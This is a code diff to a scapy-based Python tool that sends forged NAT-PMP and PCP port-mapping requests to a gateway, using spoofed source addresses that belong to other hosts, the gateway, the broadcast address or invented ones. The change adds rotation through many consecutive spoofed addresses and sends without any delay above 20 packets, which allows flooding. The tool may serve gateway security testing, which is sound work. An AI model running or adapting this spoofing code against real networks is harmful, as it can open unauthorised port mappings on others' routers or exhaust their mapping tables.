@@ -3,10 +3,11 @@
 scapy. Run with Debian's python3 (for scapy).
 
   natpmp --interface IF --gw-mac MAC --src IP --server IP --protocol udp|tcp --internal PORT
-         --external PORT [--lifetime S] [--count N]
+         --external PORT [--lifetime S] [--count N] [--sources K]
       NAT-PMP mapping requests (RFC 6886 §3.3) in Ethernet frames from this host's own MAC
       (the one a switch port would show) with the IP source SRC: another host's address, the
-      gateway's own, the broadcast address, an invented one.
+      gateway's own, the broadcast address, an invented one (--sources K: K consecutive addresses
+      from SRC on, in turn).
   pcp    --interface IF --gw-mac MAC --src IP --server IP --protocol udp|tcp --internal PORT
          --external PORT [--lifetime S] [--count N]
       PCP MAP requests (RFC 6887 §11) the same way, the PCP client address field = SRC.
@@ -44,9 +45,12 @@ def send_forged(args: argparse.Namespace, payload: bytes, sport: int) -> int:
     from scapy.layers.inet import IP, UDP
     from scapy.layers.l2 import Ether
     from scapy.sendrecv import sendp
-    frame = Ether(dst=args.gw_mac) / IP(src=args.src, dst=args.server) / UDP(sport=sport, dport=5351) / payload
-    sendp(frame, iface=args.interface, count=args.count, inter=0.01, verbose=False)
-    print(f"sent {args.count} forged request(s) from {args.src}")
+    first = struct.unpack("!I", socket.inet_aton(args.src))[0]
+    sources = [socket.inet_ntoa(struct.pack("!I", first + i % args.sources)) for i in range(args.count)]
+    frames = [Ether(dst=args.gw_mac) / IP(src=source, dst=args.server) / UDP(sport=sport, dport=5351) / payload
+              for source in sources]
+    sendp(frames, iface=args.interface, inter=0.01 if args.count <= 20 else 0, verbose=False)
+    print(f"sent {args.count} forged request(s) from {args.sources} source(s) starting at {args.src}")
     return 0
 
 
@@ -94,6 +98,7 @@ def main() -> int:
         c.add_argument("--external", type=int, required=True)
         c.add_argument("--lifetime", type=int, default=3600)
         c.add_argument("--count", type=int, default=1)
+        c.add_argument("--sources", type=int, default=1, help="cycle through this many addresses from --src on")
     h = commands.add_parser("udp-hold")
     h.add_argument("--server", required=True)
     h.add_argument("--port", type=int, required=True)
